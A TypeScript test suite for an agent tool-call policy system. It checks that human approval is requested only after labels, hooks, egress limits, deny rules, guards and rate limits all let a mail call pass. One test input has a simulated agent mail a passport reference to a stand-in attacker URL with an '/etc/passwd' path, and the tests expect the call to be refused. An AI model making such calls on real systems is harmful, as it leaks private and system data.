/** People are asked last: a call that any other gate refuses raises no request, whichever gate it is and however late it speaks. */
import { describe, expect, test } from "bun:test";
import { DEFAULT_APPROVALS, DEFAULT_POLICY, SUPERVISED_PROFILE } from "../../actors/policy/defaults.ts";
import type { CallLimits, Policy } from "../../events/policy.ts";
import type { ServerPolicy } from "../../events/registry.ts";
import { type Answers, errorOf, hookedWorld, hookOf } from "./hooks-fixture.ts";

const ASK = { name: "ask-boss", tool: "mail__act", action: "ask", reason: "" } as const;
const PII = {
  mode: "enforce" as const,
  assets: [{ match: "passport", label: "PII" }],
  actions: { PII: "block" as const },
};
const observer = (name: string, more: object = {}) => hookOf(name, { observe: true, ...more });

interface Setting {
  readonly hooks?: readonly ReturnType<typeof hookOf>[];
  readonly answers?: Answers;
  readonly policy?: Partial<Policy>;
  readonly limits?: Partial<CallLimits>;
  readonly server?: Partial<ServerPolicy>;
}
async function place({ hooks = [], answers = {}, policy = {}, limits = {}, server = {} }: Setting) {
  const own = { ...SUPERVISED_PROFILE.limits, callsPerHour: 0, spin: { repetition: 0, window: 0 }, orderedWrites: false, ...limits };
  const profile = { ...SUPERVISED_PROFILE, limits: own, approvals: { ...DEFAULT_APPROVALS, approvers: ["operator"] } };
  const world = await hookedWorld(hooks, answers, {
    policy: { rules: [ASK], profiles: { ...DEFAULT_POLICY.profiles, default: profile }, ...policy },
    policies: { mail: server },
  });
  const asked = () => world.types("session/s_1").filter((type) => type === "approval.requested").length;
  /** A call that a person approves as soon as somebody is asked. */
  const approved = async (args: Record<string, unknown>) => {
    const answer = world.ada.call("mail__act", args);
    await world.settle();
    const open = world.views.approvals(0).find(({ status }) => status === "pending");
    const vote = { type: "vote", approval: open?.id, by: "operator:root", channel: "rest", verdict: "approve", payload: {} };
    await world.runtime.enter("session/s_1", vote);
    return answer;
  };
  return { ...world, asked, approved };
}

const refusing: readonly (readonly [string, Setting, string])[] = [
  ["a label that is blocked", { policy: { rules: [ASK], classification: PII } }, "label:PII"],
  ["an observer that says no", { hooks: [observer("watch")], answers: { watch: () => "blocked" } }, "hook:watch"],
  ["an observer that fails", { hooks: [observer("watch")], answers: { watch: () => "failed" } }, "hook:watch"],
  ["an observer whose condition cannot be judged", { hooks: [observer("watch", { if: "missing == 1" })] }, "hook:watch"],
  [
    "a label in what a hook has rewritten, which another hook let pass",
    {
      hooks: [observer("watch"), hookOf("rewrite")],
      answers: { rewrite: () => ({ decision: "rewrite", arguments: { about: "the other passport" } }) },
      policy: { rules: [ASK], classification: { ...PII, assets: [{ match: "other passport", label: "PII" }] } },
    },
    "label:PII",
  ],
  ["a host that is not allowed", { policy: { rules: [ASK], egress: ["example.org"] } }, "egress"],
  ["a rule", { policy: { rules: [ASK, { ...ASK, name: "never", action: "deny" }] } }, "never"],
  ["a guard", { server: { argGuards: [{ handler: "path-prefix", tools: [], options: { keys: ["path"], allow: ["/home"] } }] } }, "guard"],
];

describe("nobody is asked about a call that is refused by", () => {
  test.each(refusing)("%s", async (_, setting, rule) => {
    const { ada, asked, sent, log } = await place(setting);
    const answer = await ada.call("mail__act", { about: "my passport", to: "https://evil.test/x", path: "/etc/passwd" });
    expect(errorOf(answer)).toMatchObject({ certainty: "not_applied" });
    expect(asked()).toBe(0);
    expect(sent).toEqual([]);
    const ends = log.page({ after: 0, limit: 1000 }).filter(({ type }) => type === "call.refused" || type === "call.answered");
    expect(ends.map(({ data }) => (data as { rule: string }).rule)).toEqual([expect.stringContaining(rule)]);
  });

  const counting: readonly (readonly [string, Setting, string])[] = [
    ["going round in circles", { limits: { spin: { repetition: 2, window: 0 } } }, "spin"],
    ["the limit of an hour", { limits: { callsPerHour: 1 } }, "rate"],
    ["the one call that its tool has", { server: { callOnce: ["act"] } }, "call-once"],
  ];
  test.each(counting)("%s, with hooks and without", async (_, setting, gate) => {
    for (const hooks of [[], [observer("watch")]]) {
      const { ada, asked, approved, sent, log } = await place({ ...setting, hooks });
      expect(errorOf(await approved({ n: 1 }))).toBeUndefined();
      expect(asked()).toBe(1);
      expect(errorOf(await ada.call("mail__act", { n: 1 }))).toMatchObject({ certainty: "not_applied" });
      expect(asked()).toBe(1);
      expect(sent).toHaveLength(1);
      const said = log.page({ after: 0, limit: 1000 }).flatMap(({ data }) => (data as { verdicts?: { gate: string }[] }).verdicts ?? []);
      expect(said.map((verdict) => verdict.gate)).toContain(gate);
    }
  });
});

test("all of them let it pass: one person is asked, once, for every reason", async () => {
  const { asked, approved, sent, views } = await place({
    hooks: [observer("watch"), hookOf("other")],
    policy: { rules: [ASK], classification: { ...PII, actions: { PII: "ask" } } },
    limits: { spin: { repetition: 3, window: 6 }, callsPerHour: 10 },
  });
  expect(errorOf(await approved({ about: "my passport" }))).toBeUndefined();
  expect(asked()).toBe(1);
  expect(sent).toHaveLength(1);
  const [one] = views.approvals(0);
  expect(one?.reasons.map((reason) => reason.split(":")[0])).toEqual(["ask-boss", "autonomy", "label"]);
});
